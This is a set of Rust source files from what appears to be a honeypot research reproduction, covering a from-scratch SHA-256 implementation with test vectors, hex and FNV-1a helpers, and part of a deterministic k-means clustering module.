        while data.len() >= 64 {
            let (block, rest) = data.split_at(64);
            let mut b = [0u8; 64];
            b.copy_from_slice(block);
            self.compress(&b);
            data = rest;
        }
        // Stash the tail.
        if !data.is_empty() {
            self.buf[..data.len()].copy_from_slice(data);
            self.buf_len = data.len();
        }
    }

    /// Apply padding and produce the digest, consuming the state.
    pub fn finalize(mut self) -> Digest {
        let bit_len = self.total_len.wrapping_mul(8);
        // Padding: 0x80, zeros, then the 64-bit big-endian bit length.
        let mut pad = [0u8; 72];
        pad[0] = 0x80;
        // Number of zero bytes so that (buf_len + 1 + zeros) % 64 == 56.
        let zeros = (55usize.wrapping_sub(self.buf_len)) % 64;
        pad[1 + zeros..1 + zeros + 8].copy_from_slice(&bit_len.to_be_bytes());
        // `update` must not recount padding bytes in total_len; compress directly.
        let pad_len = 1 + zeros + 8;
        let mut i = 0;
        while i < pad_len {
            let need = 64 - self.buf_len;
            let take = need.min(pad_len - i);
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&pad[i..i + take]);
            self.buf_len += take;
            i += take;
            if self.buf_len == 64 {
                let block = self.buf;
                self.compress(&block);
                self.buf_len = 0;
            }
        }
        debug_assert_eq!(self.buf_len, 0, "padding must end on a block boundary");
        let mut out = [0u8; 32];
        for (chunk, word) in out.chunks_exact_mut(4).zip(self.state.iter()) {
            chunk.copy_from_slice(&word.to_be_bytes());
        }
        Digest(out)
    }

    /// The compression function: one 512-bit block.
    fn compress(&mut self, block: &[u8; 64]) {
        let mut w = [0u32; 64];
        for (i, chunk) in block.chunks_exact(4).enumerate() {
            w[i] = u32::from_be_bytes(chunk.try_into().unwrap());
        }
        for t in 16..64 {
            let s0 = w[t - 15].rotate_right(7) ^ w[t - 15].rotate_right(18) ^ (w[t - 15] >> 3);
            let s1 = w[t - 2].rotate_right(17) ^ w[t - 2].rotate_right(19) ^ (w[t - 2] >> 10);
            w[t] = w[t - 16]
                .wrapping_add(s0)
                .wrapping_add(w[t - 7])
                .wrapping_add(s1);
        }
        let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut h] = self.state;
        for t in 0..64 {
            let big_s1 = e.rotate_right(6) ^ e.rotate_right(11) ^ e.rotate_right(25);
            let ch = (e & f) ^ (!e & g);
            let t1 = h
                .wrapping_add(big_s1)
                .wrapping_add(ch)
                .wrapping_add(K[t])
                .wrapping_add(w[t]);
            let big_s0 = a.rotate_right(2) ^ a.rotate_right(13) ^ a.rotate_right(22);
            let maj = (a & b) ^ (a & c) ^ (b & c);
            let t2 = big_s0.wrapping_add(maj);
            h = g;
            g = f;
            f = e;
            e = d.wrapping_add(t1);
            d = c;
            c = b;
            b = a;
            a = t1.wrapping_add(t2);
        }
        self.state[0] = self.state[0].wrapping_add(a);
        self.state[1] = self.state[1].wrapping_add(b);
        self.state[2] = self.state[2].wrapping_add(c);
        self.state[3] = self.state[3].wrapping_add(d);
        self.state[4] = self.state[4].wrapping_add(e);
        self.state[5] = self.state[5].wrapping_add(f);
        self.state[6] = self.state[6].wrapping_add(g);
        self.state[7] = self.state[7].wrapping_add(h);
    }
}

impl std::io::Write for Sha256 {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.update(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_known_vectors() {
        for (msg, want) in super::super::tests::VECTORS {
            assert_eq!(Sha256::digest(msg).to_hex(), *want, "msg={msg:?}");
        }
    }

    #[test]
    fn reference_incremental_matches_one_shot() {
        let data: Vec<u8> = (0..257u16).map(|i| (i % 251) as u8).collect();
        let want = Sha256::digest(&data);
        for split in 0..=data.len() {
            let mut h = Sha256::new();
            h.update(&data[..split]);
            h.update(&data[split..]);
            assert_eq!(h.finalize(), want, "split={split}");
        }
    }
}
