//! Schedule-unrolled scalar SHA-256 core — the portable dispatch target.
//!
//! Differences from [`super::reference`] (same FIPS 180-4 math, faster shape):
//!
//! - **Rotationless rounds.** Instead of shifting all eight working variables
//!   every round, each round macro-expands with the variables in a rotated
//!   argument order, so a round is two adds into two registers and the
//!   "rotation" costs nothing.
//! - **16-word circular schedule.** `w[t]` for `t >= 16` only depends on the
//!   previous 16 words, so the schedule lives in a 16-word ring computed
//!   on the fly instead of a fully materialized `[u32; 64]`.
//! - **Multi-block entry point.** Callers hand over whole runs of blocks, so
//!   the working variables stay in registers across blocks.

use super::K;

/// One round, rotationless: `$h` accumulates T1, `$d` absorbs it, then `$h`
/// finishes with T2. Argument order supplies the per-round rotation.
macro_rules! rnd {
    ($a:ident, $b:ident, $c:ident, $d:ident, $e:ident, $f:ident, $g:ident, $h:ident, $w:expr, $k:expr) => {{
        $h = $h
            .wrapping_add($e.rotate_right(6) ^ $e.rotate_right(11) ^ $e.rotate_right(25))
            .wrapping_add(($e & $f) ^ (!$e & $g))
            .wrapping_add($k)
            .wrapping_add($w);
        $d = $d.wrapping_add($h);
        $h = $h
            .wrapping_add($a.rotate_right(2) ^ $a.rotate_right(13) ^ $a.rotate_right(22))
            .wrapping_add(($a & $b) ^ ($a & $c) ^ ($b & $c));
    }};
}

/// Extend the circular message schedule in place and yield `w[t]`.
macro_rules! sched {
    ($w:ident, $t:expr) => {{
        let w15 = $w[($t + 1) & 15];
        let w2 = $w[($t + 14) & 15];
        let s0 = w15.rotate_right(7) ^ w15.rotate_right(18) ^ (w15 >> 3);
        let s1 = w2.rotate_right(17) ^ w2.rotate_right(19) ^ (w2 >> 10);
        $w[$t & 15] = $w[$t & 15]
            .wrapping_add(s0)
            .wrapping_add($w[($t + 9) & 15])
            .wrapping_add(s1);
        $w[$t & 15]
    }};
}

/// Eight rounds straight from the loaded message block (`$t` in 0 or 8).
macro_rules! round8_load {
    ($a:ident, $b:ident, $c:ident, $d:ident, $e:ident, $f:ident, $g:ident, $h:ident, $w:ident, $t:expr) => {
        rnd!($a, $b, $c, $d, $e, $f, $g, $h, $w[$t], K[$t]);
        rnd!($h, $a, $b, $c, $d, $e, $f, $g, $w[$t + 1], K[$t + 1]);
        rnd!($g, $h, $a, $b, $c, $d, $e, $f, $w[$t + 2], K[$t + 2]);
        rnd!($f, $g, $h, $a, $b, $c, $d, $e, $w[$t + 3], K[$t + 3]);
        rnd!($e, $f, $g, $h, $a, $b, $c, $d, $w[$t + 4], K[$t + 4]);
        rnd!($d, $e, $f, $g, $h, $a, $b, $c, $w[$t + 5], K[$t + 5]);
        rnd!($c, $d, $e, $f, $g, $h, $a, $b, $w[$t + 6], K[$t + 6]);
        rnd!($b, $c, $d, $e, $f, $g, $h, $a, $w[$t + 7], K[$t + 7]);
    };
}

/// Eight rounds with on-the-fly schedule extension (`$t` in 16..=56, step 8).
macro_rules! round8_sched {
    ($a:ident, $b:ident, $c:ident, $d:ident, $e:ident, $f:ident, $g:ident, $h:ident, $w:ident, $t:expr) => {
        rnd!($a, $b, $c, $d, $e, $f, $g, $h, sched!($w, $t), K[$t]);
        rnd!(
            $h,
            $a,
            $b,
            $c,
            $d,
            $e,
            $f,
            $g,
            sched!($w, $t + 1),
            K[$t + 1]
        );
        rnd!(
            $g,
            $h,
            $a,
            $b,
            $c,
            $d,
            $e,
            $f,
            sched!($w, $t + 2),
            K[$t + 2]
        );
        rnd!(
            $f,
            $g,
            $h,
            $a,
            $b,
            $c,
            $d,
            $e,
            sched!($w, $t + 3),
            K[$t + 3]
        );
        rnd!(
            $e,
            $f,
            $g,
            $h,
            $a,
            $b,
            $c,
            $d,
            sched!($w, $t + 4),
            K[$t + 4]
        );
        rnd!(
            $d,
            $e,
            $f,
            $g,
            $h,
            $a,
            $b,
            $c,
            sched!($w, $t + 5),
            K[$t + 5]
        );
        rnd!(
            $c,
            $d,
            $e,
            $f,
            $g,
            $h,
            $a,
            $b,
            sched!($w, $t + 6),
            K[$t + 6]
        );
        rnd!(
            $b,
            $c,
            $d,
            $e,
            $f,
            $g,
            $h,
            $a,
            sched!($w, $t + 7),
            K[$t + 7]
        );
    };
}

/// Compress a run of whole 64-byte blocks into `state`.
pub(super) fn compress_blocks(state: &mut [u32; 8], data: &[u8]) {
    debug_assert_eq!(data.len() % 64, 0, "whole blocks only");
    let mut s = *state;
    for block in data.chunks_exact(64) {
        let mut w = [0u32; 16];
        for (wi, chunk) in w.iter_mut().zip(block.chunks_exact(4)) {
            *wi = u32::from_be_bytes(chunk.try_into().unwrap());
        }
        let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut h] = s;
        round8_load!(a, b, c, d, e, f, g, h, w, 0);
        round8_load!(a, b, c, d, e, f, g, h, w, 8);
        round8_sched!(a, b, c, d, e, f, g, h, w, 16);
        round8_sched!(a, b, c, d, e, f, g, h, w, 24);
        round8_sched!(a, b, c, d, e, f, g, h, w, 32);
        round8_sched!(a, b, c, d, e, f, g, h, w, 40);
        round8_sched!(a, b, c, d, e, f, g, h, w, 48);
        round8_sched!(a, b, c, d, e, f, g, h, w, 56);
        s[0] = s[0].wrapping_add(a);
        s[1] = s[1].wrapping_add(b);
        s[2] = s[2].wrapping_add(c);
        s[3] = s[3].wrapping_add(d);
        s[4] = s[4].wrapping_add(e);
        s[5] = s[5].wrapping_add(f);
        s[6] = s[6].wrapping_add(g);
        s[7] = s[7].wrapping_add(h);
    }
    *state = s;
}
