//! Minimal hex encoding/decoding (lowercase), used for digests and event logs.

/// Errors from [`decode_hex`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HexError {
    /// Input length is odd or does not match the expected output size.
    BadLength,
    /// A character outside `[0-9a-fA-F]` was encountered at this byte offset.
    BadChar(usize),
}

impl std::fmt::Display for HexError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            HexError::BadLength => write!(f, "hex string has invalid length"),
            HexError::BadChar(i) => write!(f, "invalid hex character at offset {i}"),
        }
    }
}

impl std::error::Error for HexError {}

const TABLE: &[u8; 16] = b"0123456789abcdef";

/// Encode bytes as lowercase hex.
pub fn encode_hex(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() * 2);
    for &b in bytes {
        out.push(TABLE[(b >> 4) as usize] as char);
        out.push(TABLE[(b & 0xf) as usize] as char);
    }
    out
}

fn nibble(c: u8, pos: usize) -> Result<u8, HexError> {
    match c {
        b'0'..=b'9' => Ok(c - b'0'),
        b'a'..=b'f' => Ok(c - b'a' + 10),
        b'A'..=b'F' => Ok(c - b'A' + 10),
        _ => Err(HexError::BadChar(pos)),
    }
}

/// Decode a hex string (case-insensitive) into bytes.
pub fn decode_hex(s: &str) -> Result<Vec<u8>, HexError> {
    let b = s.as_bytes();
    if !b.len().is_multiple_of(2) {
        return Err(HexError::BadLength);
    }
    let mut out = Vec::with_capacity(b.len() / 2);
    for (i, pair) in b.chunks_exact(2).enumerate() {
        out.push((nibble(pair[0], i * 2)? << 4) | nibble(pair[1], i * 2 + 1)?);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encode_basic() {
        assert_eq!(encode_hex(&[]), "");
        assert_eq!(encode_hex(&[0x00, 0xff, 0x0a]), "00ff0a");
    }

    #[test]
    fn decode_basic() {
        assert_eq!(decode_hex("00ff0a").unwrap(), vec![0x00, 0xff, 0x0a]);
        assert_eq!(decode_hex("00FF0A").unwrap(), vec![0x00, 0xff, 0x0a]);
        assert_eq!(decode_hex("").unwrap(), Vec::<u8>::new());
    }

    #[test]
    fn decode_errors() {
        assert_eq!(decode_hex("abc"), Err(HexError::BadLength));
        assert_eq!(decode_hex("zz"), Err(HexError::BadChar(0)));
        assert_eq!(decode_hex("a!"), Err(HexError::BadChar(1)));
    }

    #[test]
    fn roundtrip_all_bytes() {
        let all: Vec<u8> = (0..=255u8).collect();
        assert_eq!(decode_hex(&encode_hex(&all)).unwrap(), all);
    }
}
