//! From-scratch hashing primitives for the honeyfarm reproduction.
//!
//! The honeypot records a content hash for every file an intruder creates or
//! modifies (the paper's "hashes", Section 8). Cowrie uses SHA-256 for this, so
//! we implement SHA-256 (FIPS 180-4) here from scratch rather than pulling in a
//! crypto dependency. The crate also provides hex encoding/decoding and a tiny
//! FNV-1a hasher used for cheap deterministic derivation of simulation seeds.
//!
//! # Example
//! ```
//! use hf_hash::Sha256;
//! let digest = Sha256::digest(b"abc");
//! assert_eq!(
//!     digest.to_hex(),
//!     "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
//! );
//! ```

pub mod fnv;
pub mod hex;
pub mod sha256;

pub use fnv::{fnv1a_64, Fnv64};
pub use hex::{decode_hex, encode_hex, HexError};
pub use sha256::{Digest, Sha256};
