//! FNV-1a 64-bit, used for cheap deterministic seed derivation in the
//! simulator (e.g., deriving an independent RNG stream per `(day, source)`),
//! never for artifact identity (that is SHA-256's job).

const FNV_OFFSET: u64 = 0xcbf29ce484222325;
const FNV_PRIME: u64 = 0x100000001b3;

/// One-shot FNV-1a over a byte slice.
pub fn fnv1a_64(data: &[u8]) -> u64 {
    let mut h = Fnv64::new();
    h.write(data);
    h.finish()
}

/// Streaming FNV-1a state.
#[derive(Debug, Clone, Copy)]
pub struct Fnv64(u64);

impl Default for Fnv64 {
    fn default() -> Self {
        Self::new()
    }
}

impl Fnv64 {
    /// Fresh state at the FNV offset basis.
    pub fn new() -> Self {
        Fnv64(FNV_OFFSET)
    }

    /// Absorb bytes.
    pub fn write(&mut self, data: &[u8]) {
        for &b in data {
            self.0 ^= b as u64;
            self.0 = self.0.wrapping_mul(FNV_PRIME);
        }
    }

    /// Absorb a u64 (little-endian), handy for mixing counters into seeds.
    pub fn write_u64(&mut self, v: u64) {
        self.write(&v.to_le_bytes());
    }

    /// Current hash value.
    pub fn finish(&self) -> u64 {
        self.0
    }

    /// Builder-style mixing: `Fnv64::new().mix(b"day").mix_u64(42).finish()`.
    pub fn mix(mut self, data: &[u8]) -> Self {
        self.write(data);
        self
    }

    /// Builder-style u64 mixing.
    pub fn mix_u64(mut self, v: u64) -> Self {
        self.write_u64(v);
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_values() {
        // Published FNV-1a 64 test vectors.
        assert_eq!(fnv1a_64(b""), 0xcbf29ce484222325);
        assert_eq!(fnv1a_64(b"a"), 0xaf63dc4c8601ec8c);
        assert_eq!(fnv1a_64(b"foobar"), 0x85944171f73967e8);
    }

    #[test]
    fn streaming_matches_one_shot() {
        let mut h = Fnv64::new();
        h.write(b"foo");
        h.write(b"bar");
        assert_eq!(h.finish(), fnv1a_64(b"foobar"));
    }

    #[test]
    fn builder_is_order_sensitive() {
        let a = Fnv64::new().mix(b"x").mix_u64(1).finish();
        let b = Fnv64::new().mix_u64(1).mix(b"x").finish();
        assert_ne!(a, b);
    }
}
