//! SHA-256 per FIPS 180-4, implemented from scratch.
//!
//! Supports both one-shot ([`Sha256::digest`]) and incremental
//! ([`Sha256::update`] / [`Sha256::finalize`]) hashing. The incremental path is
//! what the honeypot's artifact store uses while streaming simulated download
//! bodies; the one-shot path is used for short shell-generated files.

/// Initial hash values: first 32 bits of the fractional parts of the square
/// roots of the first 8 primes.
const H0: [u32; 8] = [
    0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19,
];

/// Round constants: first 32 bits of the fractional parts of the cube roots of
/// the first 64 primes.
const K: [u32; 64] = [
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
];

/// A finished 256-bit digest.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Digest(pub [u8; 32]);

impl Digest {
    /// Lowercase hex rendering of the digest (64 chars).
    pub fn to_hex(&self) -> String {
        crate::hex::encode_hex(&self.0)
    }

    /// Parse a 64-char hex string into a digest.
    pub fn from_hex(s: &str) -> Result<Self, crate::hex::HexError> {
        let bytes = crate::hex::decode_hex(s)?;
        let arr: [u8; 32] = bytes
            .try_into()
            .map_err(|_| crate::hex::HexError::BadLength)?;
        Ok(Digest(arr))
    }

    /// A short 12-hex-char prefix, convenient for log lines and tables.
    pub fn short(&self) -> String {
        self.to_hex()[..12].to_string()
    }
}

impl serde::Serialize for Digest {
    /// Serializes as a 64-char lowercase hex string — the format Cowrie logs
    /// and the analyses exchange.
    fn to_value(&self) -> serde::Value {
        serde::Value::Str(self.to_hex())
    }
}

impl serde::Deserialize for Digest {
    fn from_value(v: &serde::Value) -> Result<Self, serde::Error> {
        let s = <String as serde::Deserialize>::from_value(v)?;
        Digest::from_hex(&s).map_err(serde::de::Error::custom)
    }
}

impl std::fmt::Debug for Digest {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Digest({})", self.to_hex())
    }
}

impl std::fmt::Display for Digest {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.to_hex())
    }
}

/// Streaming SHA-256 state.
#[derive(Clone)]
pub struct Sha256 {
    state: [u32; 8],
    /// Bytes buffered, always < 64 after `update` returns.
    buf: [u8; 64],
    buf_len: usize,
    /// Total message length in bytes.
    total_len: u64,
}

impl Default for Sha256 {
    fn default() -> Self {
        Self::new()
    }
}

impl Sha256 {
    /// Fresh hasher state.
    pub fn new() -> Self {
        Sha256 {
            state: H0,
            buf: [0u8; 64],
            buf_len: 0,
            total_len: 0,
        }
    }

    /// One-shot convenience: hash `data` in a single call.
    pub fn digest(data: &[u8]) -> Digest {
        let mut h = Sha256::new();
        h.update(data);
        h.finalize()
    }

    /// Hash a batch of independent messages, one digest per message.
    ///
    /// Semantically `bodies.map(Sha256::digest)`; batching keeps the hasher
    /// state hot and lets callers (artifact pipelines) hash a day's distinct
    /// dropper bodies in one pass.
    pub fn digest_many<'a>(bodies: impl IntoIterator<Item = &'a [u8]>, out: &mut Vec<Digest>) {
        for body in bodies {
            out.push(Sha256::digest(body));
        }
    }

    /// Absorb more message bytes.
    pub fn update(&mut self, mut data: &[u8]) {
        self.total_len = self.total_len.wrapping_add(data.len() as u64);
        // Top up a partially filled block first.
        if self.buf_len > 0 {
            let need = 64 - self.buf_len;
            let take = need.min(data.len());
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&data[..take]);
            self.buf_len += take;
            data = &data[take..];
            if self.buf_len == 64 {
                let block = self.buf;
                self.compress(&block);
                self.buf_len = 0;
            }
        }
        // Whole blocks straight from the input.
        while data.len() >= 64 {
            let (block, rest) = data.split_at(64);
            let mut b = [0u8; 64];
            b.copy_from_slice(block);
            self.compress(&b);
            data = rest;
        }
        // Stash the tail.
        if !data.is_empty() {
            self.buf[..data.len()].copy_from_slice(data);
            self.buf_len = data.len();
        }
    }

    /// Apply padding and produce the digest, consuming the state.
    pub fn finalize(mut self) -> Digest {
        let bit_len = self.total_len.wrapping_mul(8);
        // Padding: 0x80, zeros, then the 64-bit big-endian bit length.
        let mut pad = [0u8; 72];
        pad[0] = 0x80;
        // Number of zero bytes so that (buf_len + 1 + zeros) % 64 == 56.
        let zeros = (55usize.wrapping_sub(self.buf_len)) % 64;
        pad[1 + zeros..1 + zeros + 8].copy_from_slice(&bit_len.to_be_bytes());
        // `update` must not recount padding bytes in total_len; compress directly.
        let pad_len = 1 + zeros + 8;
        let mut i = 0;
        while i < pad_len {
            let need = 64 - self.buf_len;
            let take = need.min(pad_len - i);
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&pad[i..i + take]);
            self.buf_len += take;
            i += take;
            if self.buf_len == 64 {
                let block = self.buf;
                self.compress(&block);
                self.buf_len = 0;
            }
        }
        debug_assert_eq!(self.buf_len, 0, "padding must end on a block boundary");
        let mut out = [0u8; 32];
        for (chunk, word) in out.chunks_exact_mut(4).zip(self.state.iter()) {
            chunk.copy_from_slice(&word.to_be_bytes());
        }
        Digest(out)
    }

    /// The compression function: one 512-bit block.
    fn compress(&mut self, block: &[u8; 64]) {
        let mut w = [0u32; 64];
        for (i, chunk) in block.chunks_exact(4).enumerate() {
            w[i] = u32::from_be_bytes(chunk.try_into().unwrap());
        }
        for t in 16..64 {
            let s0 = w[t - 15].rotate_right(7) ^ w[t - 15].rotate_right(18) ^ (w[t - 15] >> 3);
            let s1 = w[t - 2].rotate_right(17) ^ w[t - 2].rotate_right(19) ^ (w[t - 2] >> 10);
            w[t] = w[t - 16]
                .wrapping_add(s0)
                .wrapping_add(w[t - 7])
                .wrapping_add(s1);
        }
        let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut h] = self.state;
        for t in 0..64 {
            let big_s1 = e.rotate_right(6) ^ e.rotate_right(11) ^ e.rotate_right(25);
            let ch = (e & f) ^ (!e & g);
            let t1 = h
                .wrapping_add(big_s1)
                .wrapping_add(ch)
                .wrapping_add(K[t])
                .wrapping_add(w[t]);
            let big_s0 = a.rotate_right(2) ^ a.rotate_right(13) ^ a.rotate_right(22);
            let maj = (a & b) ^ (a & c) ^ (b & c);
            let t2 = big_s0.wrapping_add(maj);
            h = g;
            g = f;
            f = e;
            e = d.wrapping_add(t1);
            d = c;
            c = b;
            b = a;
            a = t1.wrapping_add(t2);
        }
        self.state[0] = self.state[0].wrapping_add(a);
        self.state[1] = self.state[1].wrapping_add(b);
        self.state[2] = self.state[2].wrapping_add(c);
        self.state[3] = self.state[3].wrapping_add(d);
        self.state[4] = self.state[4].wrapping_add(e);
        self.state[5] = self.state[5].wrapping_add(f);
        self.state[6] = self.state[6].wrapping_add(g);
        self.state[7] = self.state[7].wrapping_add(h);
    }
}

impl std::io::Write for Sha256 {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.update(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// NIST / well-known test vectors.
    const VECTORS: &[(&[u8], &str)] = &[
        (
            b"",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
        (
            b"abc",
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
        ),
        (
            b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq",
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1",
        ),
        (
            b"abcdefghbcdefghicdefghijdefghijkefghijklfghijklmghijklmnhijklmnoijklmnopjklmnopqklmnopqrlmnopqrsmnopqrstnopqrstu",
            "cf5b16a778af8380036ce59e7b0492370b249b11e8f07a51afac45037afee9d1",
        ),
        (
            b"The quick brown fox jumps over the lazy dog",
            "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
        ),
    ];

    #[test]
    fn known_vectors_one_shot() {
        for (msg, want) in VECTORS {
            assert_eq!(Sha256::digest(msg).to_hex(), *want, "msg={msg:?}");
        }
    }

    #[test]
    fn million_a() {
        let mut h = Sha256::new();
        let chunk = [b'a'; 1000];
        for _ in 0..1000 {
            h.update(&chunk);
        }
        assert_eq!(
            h.finalize().to_hex(),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0"
        );
    }

    #[test]
    fn incremental_matches_one_shot_at_all_split_points() {
        let data: Vec<u8> = (0..257u16).map(|i| (i % 251) as u8).collect();
        let want = Sha256::digest(&data);
        for split in 0..=data.len() {
            let mut h = Sha256::new();
            h.update(&data[..split]);
            h.update(&data[split..]);
            assert_eq!(h.finalize(), want, "split={split}");
        }
    }

    #[test]
    fn boundary_lengths() {
        // Exercise messages at and around the padding boundaries (55/56/63/64).
        for len in [0usize, 1, 54, 55, 56, 57, 63, 64, 65, 119, 120, 127, 128] {
            let data = vec![0xa5u8; len];
            let one = Sha256::digest(&data);
            let mut inc = Sha256::new();
            for b in &data {
                inc.update(std::slice::from_ref(b));
            }
            assert_eq!(inc.finalize(), one, "len={len}");
        }
    }

    #[test]
    fn digest_hex_roundtrip() {
        let d = Sha256::digest(b"roundtrip");
        let parsed = Digest::from_hex(&d.to_hex()).unwrap();
        assert_eq!(parsed, d);
        assert_eq!(d.short().len(), 12);
    }

    #[test]
    fn distinct_inputs_distinct_digests() {
        // Sanity: tiny perturbations change the digest.
        let a = Sha256::digest(b"campaign-1");
        let b = Sha256::digest(b"campaign-2");
        assert_ne!(a, b);
    }

    #[test]
    fn write_trait_feeds_hasher() {
        use std::io::Write;
        let mut h = Sha256::new();
        h.write_all(b"The quick brown fox jumps over the lazy dog")
            .unwrap();
        assert_eq!(
            h.finalize().to_hex(),
            "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592"
        );
    }
}
