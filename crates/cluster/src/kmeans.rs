//! Deterministic seeded k-means with a fixed silhouette sweep.
//!
//! Everything here is serial and fully ordered: clients enter in ascending
//! IP order (the matrix row order), k-means++ seeding draws from a
//! SplitMix64 stream owned by the config seed, distance ties assign to the
//! lowest centroid index, the sweep breaks score ties toward the smaller
//! k, and the final labels are canonicalized by (size desc, lowest member
//! IP asc). Given the same [`FeatureMatrix`] the output is bit-identical —
//! the threading question is settled entirely upstream, in the integer
//! feature fold.

use crate::features::{FeatureMatrix, N_FEATURES};

/// Clustering parameters. The defaults are the documented fixture used by
/// `hfarm cluster`, the goldens, and the claims table.
#[derive(Clone, Copy, Debug)]
pub struct KMeansConfig {
    /// Seed for the k-means++ draws.
    pub seed: u64,
    /// Smallest k the silhouette sweep tries.
    pub k_min: usize,
    /// Largest k the sweep tries (clamped to the number of clients).
    pub k_max: usize,
    /// Lloyd iteration cap per k.
    pub max_iters: usize,
    /// Skip the sweep and force this k (still clamped to the client
    /// count). `None` sweeps `k_min..=k_max`.
    pub force_k: Option<usize>,
}

impl Default for KMeansConfig {
    fn default() -> Self {
        KMeansConfig {
            seed: 0x00C1_A57E,
            k_min: 2,
            k_max: 8,
            max_iters: 64,
            force_k: None,
        }
    }
}

/// Finished clustering, canonically labelled.
#[derive(Clone, Debug, PartialEq)]
pub struct ClusterOutput {
    /// Number of (non-empty) clusters actually produced. All-identical
    /// inputs collapse to 1 regardless of the sweep.
    pub k: usize,
    /// Mean centroid-silhouette of the chosen k (see [`silhouette`]).
    pub silhouette: f64,
    /// `(k, score)` for every k the sweep evaluated, ascending k.
    pub sweep: Vec<(usize, f64)>,
    /// `(client_ip, cluster)` ascending by IP; cluster ids are canonical.
    pub assignments: Vec<(u32, u32)>,
    /// Canonical per-cluster centroids in normalized feature space.
    pub centroids: Vec<[f64; N_FEATURES]>,
    /// Clients per cluster, parallel to `centroids` (descending by
    /// construction).
    pub sizes: Vec<u64>,
}

/// SplitMix64 — the classic 64-bit mixer; tiny, seedable, and entirely
/// deterministic, which is all the seeding draw needs.
struct SplitMix64(u64);

impl SplitMix64 {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `[0, 1)`.
    fn next_f64(&mut self) -> f64 {
        (self.next() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

fn dist_sq(a: &[f64], b: &[f64]) -> f64 {
    let mut s = 0.0;
    for i in 0..N_FEATURES {
        let d = a[i] - b[i];
        s += d * d;
    }
    s
}

/// One Lloyd run at a fixed k. Returns `(assignments, centroids)`.
fn lloyd(m: &FeatureMatrix, k: usize, cfg: &KMeansConfig) -> (Vec<u32>, Vec<[f64; N_FEATURES]>) {
    let n = m.len();
    debug_assert!(k >= 1 && k <= n);
    let mut rng = SplitMix64(cfg.seed);

    // k-means++ seeding: first center uniform, the rest D²-weighted. When
    // the remaining mass is zero (all points coincide with a chosen
    // center) fall back to the lowest not-yet-chosen row index.
    let mut centroids: Vec<[f64; N_FEATURES]> = Vec::with_capacity(k);
    let mut chosen = vec![false; n];
    let first = (rng.next() % n as u64) as usize;
    chosen[first] = true;
    centroids.push(m.row(first).try_into().unwrap());
    let mut d2: Vec<f64> = (0..n).map(|i| dist_sq(m.row(i), &centroids[0])).collect();
    while centroids.len() < k {
        let total: f64 = d2.iter().sum();
        let idx = if total > 0.0 {
            let mut r = rng.next_f64() * total;
            let mut pick = n - 1;
            for (i, &w) in d2.iter().enumerate() {
                if r < w {
                    pick = i;
                    break;
                }
                r -= w;
            }
            pick
        } else {
            (0..n).find(|&i| !chosen[i]).unwrap_or(0)
        };
        chosen[idx] = true;
